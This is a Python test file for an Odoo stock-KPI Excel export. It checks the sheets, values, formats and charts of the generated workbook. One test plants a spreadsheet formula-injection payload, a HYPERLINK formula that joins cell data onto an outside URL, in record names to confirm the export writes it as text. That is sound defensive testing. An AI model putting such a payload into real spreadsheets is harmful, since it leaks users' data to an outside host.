import base64
import io

import openpyxl
from odoo.tests import tagged

from .common import MONTH_END, MONTH_START, KpiCommon


@tagged("post_install", "-at_install")
class TestKpiWorkbook(KpiCommon):
    def export_wizard(self):
        """The export wizard of March for the company, as the finance user."""
        return (
            self.env["stock.kpi.export.wizard"]
            .with_user(self.finance)
            .create(
                {
                    "date_from": MONTH_START,
                    "date_to": MONTH_END,
                    "company_ids": [(6, 0, self.company.ids)],
                }
            )
        )

    def test_workbook_has_sheets_charts_and_values(self):
        self.run_march()
        wizard = self.export_wizard()
        action = wizard.action_export()
        self.assertIn(f"/web/content/stock.kpi.export.wizard/{wizard.id}/file_data", action["url"])
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        self.assertEqual(
            book.sheetnames, ["Inventory", "Service", "Forecast", "Working capital", "Benchmark"]
        )
        row = self.month_row()
        inventory = book["Inventory"]
        self.assertEqual(inventory.freeze_panes, "E4")
        self.assertEqual(inventory["E3"].value, "Average stock qty")
        self.assertEqual(inventory["C4"].value, self.wh.name)
        self.assertAlmostEqual(inventory["F4"].value, row.avg_inventory_value)
        self.assertAlmostEqual(inventory["I4"].value, row.turns)
        self.assertEqual(inventory["F4"].number_format, "#,##0.00")
        self.assertEqual(len(inventory._charts), 2)
        service = book["Service"]
        self.assertAlmostEqual(service["G4"].value, row.qty_fill_rate)
        self.assertEqual(service["L4"].value, "Below target")
        for sheet in book.worksheets:
            self.assertEqual(len(sheet._charts), 2, sheet.title)
        kinds = sorted(type(c).__name__ for c in inventory._charts)
        self.assertEqual(kinds, ["BarChart", "LineChart"])

    def test_workbook_writes_formula_like_names_as_text(self):
        evil = '=HYPERLINK("http://x"&B2,"y")'
        self.wh.sudo().name = evil
        self.segment.sudo().name = evil
        self.run_march()
        wizard = self.export_wizard()
        wizard.action_export()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
        hits = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    self.assertNotEqual(
                        cell.data_type, "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                    )
                    if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                        self.assertEqual(cell.data_type, "s")
                        hits += 1
        self.assertTrue(hits)

    def test_scorecard_export(self):
        self.run_march()
        rows = self.Snapshot.with_user(self.finance).search(
            [("level", "=", "segment"), ("period_type", "=", "month")]
        )
        action = rows.action_export_xlsx()
        self.assertEqual(action["type"], "ir.actions.act_url")
